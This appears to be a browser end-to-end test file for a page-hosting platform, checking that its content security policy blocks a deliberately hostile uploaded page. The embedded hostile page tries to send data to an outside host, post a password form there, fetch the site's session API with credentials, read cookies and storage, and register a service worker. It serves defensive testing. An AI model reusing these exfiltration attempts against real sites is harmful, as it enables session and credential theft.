import { createServer } from 'node:http'
import { deployPages } from '@astropelago/contract/hosted-pages'
import { createIsland, publishIsland } from '@astropelago/contract/islands'
import { strToU8, zipSync } from 'fflate'
import { askApi } from './harness/ask-api.ts'
import { listenAtHome } from './harness/relayed-islands.ts'
import { expect, test } from './harness/test.ts'

/** Tries everything that a page here must not do, and says how each try ended. */
const hostile = (site: string, elsewhere: string) => `<!doctype html>
<html lang="en"><title>Hostile</title><link rel="icon" href="data:,">
<h1>Hostile</h1><output></output>
<form action="${elsewhere}/form" method="post" target="sink"><input name="password"></form><iframe name="sink" title="Sink"></iframe>
<script type="module">
  const violated = new Set()
  document.addEventListener('securitypolicyviolation', (event) => violated.add(event.effectiveDirective))
  const ended = async (work) => {
    try { return await work() } catch (error) { return error.name }
  }
  const load = (element, property, address) => new Promise((done) => {
    element.onload = () => done('loaded')
    element.onerror = () => done('refused')
    element[property] = address
    document.body.append(element)
  })
  const results = {
    fetch: await ended(async () => (await fetch('${elsewhere}/fetch')).status),
    siteByFetch: await ended(async () => (await fetch('${site}/api/me', { credentials: 'include' })).status),
    beacon: await ended(async () => { navigator.sendBeacon('${elsewhere}/beacon'); return 'sent' }),
    picture: await load(new Image(), 'src', '${elsewhere}/picture'),
    script: await load(document.createElement('script'), 'src', '${elsewhere}/script.js'),
    worker: await ended(async () => { await navigator.serviceWorker.register('/worker.js'); return 'registered' }),
    cookies: document.cookie,
    stored: Object.keys(localStorage).length,
  }
  const frame = document.createElement('iframe')
  frame.src = '${site}/explore'
  document.body.append(frame)
  document.forms[0].submit()
  await new Promise((done) => setTimeout(done, 500))
  document.querySelector('output').textContent = JSON.stringify({ ...results, violated: [...violated].sort() })
</script></html>`

test('S68 a page can’t reach another host, the site’s session or its frames, and gets no service worker', async ({
  page,
  user,
  server,
  problems,
}) => {
  problems.expectFailure(403)
  const asked: string[] = []
  const elsewhere = await listenAtHome(
    createServer(({ url = '' }, response) => {
      asked.push(url)
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('')
    }),
  )
  const { request } = page
  const { id } = await askApi(request, createIsland, {
    data: { name: `Walls of ${user.username}`, kind: 'lab', isHosted: true },
  })
  const zip = zipSync({
    'index.html': strToU8(hostile(server.url, elsewhere.url)),
    'worker.js': strToU8('self.skipWaiting()'),
  })
  const sent = await request.put(deployPages.path.replace(':id', id), {
    headers: { 'content-type': 'application/zip' },
    data: Buffer.from(zip),
  })
  expect(sent.status()).toBe(201)
  const { slug } = await askApi(request, publishIsland, {
    params: { id },
    data: { access: 'public', isListed: false },
  })

  await page.goto(`http://${slug}.localhost:${new URL(server.url).port}/`)
  await expect(page.getByRole('heading', { level: 1 })).toContainText('a page that somebody made')
  await page.getByRole('button', { name: 'Go on to' }).click()
  await expect(page.getByRole('status')).not.toBeEmpty()
  expect(JSON.parse(await page.getByRole('status').innerText())).toEqual({
    fetch: 'TypeError',
    siteByFetch: 'TypeError',
    beacon: 'sent',
    picture: 'refused',
    script: 'refused',
    worker: 'TypeError',
    cookies: '',
    stored: 0,
    violated: ['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem'],
  })
  expect(asked).toEqual([])
  // What the browser says of each try.
  problems.takeProblems(/Content Security Policy|bad HTTP response code \(403\)/)
  elsewhere.close()
})
